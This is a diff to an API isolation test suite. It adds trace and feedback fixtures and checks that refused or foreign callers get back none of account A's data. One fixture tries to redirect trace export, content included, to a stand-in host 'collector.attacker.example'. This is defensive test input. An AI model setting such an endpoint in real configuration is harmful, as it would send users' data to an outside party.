@@ -9,6 +9,7 @@ import { apiMethods, installationPermissions, methodNames, rolePermissions, role
 import { createCore } from '../createCore.ts';
 import type { Core } from '../createCore.ts';
 import { MemorySecretStore } from '../secrets/index.ts';
+import { spanIdFor } from '../tracing/index.ts';
 
 // Isolation proven from the router's registry: every API method, called by each role that lacks
 // its permission and by an administrator of another account, is refused with ERR_AUTH_FORBIDDEN
@@ -20,6 +21,9 @@ interface World {
   accountA: { id: string; name: string };
   accountB: { id: string; name: string };
   mappingA: { id: string; group: string };
+  traceA: string;
+  spanA: string;
+  feedbackA: string;
 }
 
 const fixtures: { [M in MethodName]: (world: World) => MethodInput<M> } = {
@@ -75,6 +79,18 @@ const fixtures: { [M in MethodName]: (world: World) => MethodInput<M> } = {
   'tools.mcp.remove': () => ({ name: 'intruder' }),
   'tools.allow.get': (w) => ({ accountId: w.accountA.id }),
   'tools.allow.set': (w) => ({ accountId: w.accountA.id, entries: ['calculator'] }),
+  'traces.list': () => ({}),
+  'traces.get': (w) => ({ traceId: w.traceA }),
+  'traces.span': (w) => ({ traceId: w.traceA, spanId: w.spanA }),
+  'traces.flag': (w) => ({ traceId: w.traceA, flagged: true }),
+  'traces.stats': () => ({}),
+  'traces.export': (w) => ({ traceId: w.traceA }),
+  'traces.pushConfig': () => ({}),
+  'traces.setPushConfig': () => ({ enabled: true, endpoint: 'http://collector.attacker.example/v1/traces', includeContent: true }),
+  'feedback.submit': (w) => ({ traceId: w.traceA, spanId: w.spanA, feedback: { rating: 1, comment: 'intruder' } }),
+  'feedback.revise': (w) => ({ feedbackId: w.feedbackA, feedback: { rating: 1 } }),
+  'feedback.list': (w) => ({ traceId: w.traceA }),
+  'feedback.history': (w) => ({ feedbackId: w.feedbackA }),
 };
 
 let core: Core;
@@ -100,7 +116,10 @@ async function callAs(who: Principal, method: MethodName) {
 /** Nothing of account A may appear in what a refused or foreign caller gets back. */
 function expectNothingOfA(result: unknown): void {
   const text = JSON.stringify(result);
-  for (const secret of [world.accountA.id, world.accountA.name, world.mappingA.id, world.mappingA.group, world.runA]) expect(text).not.toContain(secret);
+  for (const secret of [world.accountA.id, world.accountA.name, world.mappingA.id, world.mappingA.group, world.runA, world.feedbackA, 'alpha-feedback-comment']) expect(text).not.toContain(secret);
+  // The trace id is in the request itself (echoed in input errors); what must not come back is the trace.
+  expect(text).not.toContain('"spans"');
+  expect(text).not.toContain('"resourceSpans"');
 }
 
 beforeAll(async () => {
@@ -119,7 +138,11 @@ beforeAll(async () => {
   const inA = createInProcessBridge(core.router, core.events, core.sessions.create(principal(a.value.id, 'admin')).id);
   const run = await inA.invoke('runs.start', { workflowId: 'guarded', input: {} });
   if (!run.ok) throw new Error(`setup failed: ${run.error.code}`);
-  world = { runA: run.value.id, accountA: a.value, accountB: b.value, mappingA: { id: mapping.value.id, group: mapping.value.group } };
+  await core.workflows!.settled(run.value.id);
+  const spanA = spanIdFor(run.value.traceId, '');
+  const feedback = await inA.invoke('feedback.submit', { traceId: run.value.traceId, spanId: spanA, feedback: { rating: 4, comment: 'alpha-feedback-comment' } });
+  if (!feedback.ok) throw new Error(`setup failed: ${feedback.error.code}`);
+  world = { runA: run.value.id, accountA: a.value, accountB: b.value, mappingA: { id: mapping.value.id, group: mapping.value.group }, traceA: run.value.traceId, spanA, feedbackA: feedback.value.id };
 });
 afterAll(() => core.dispose());
 
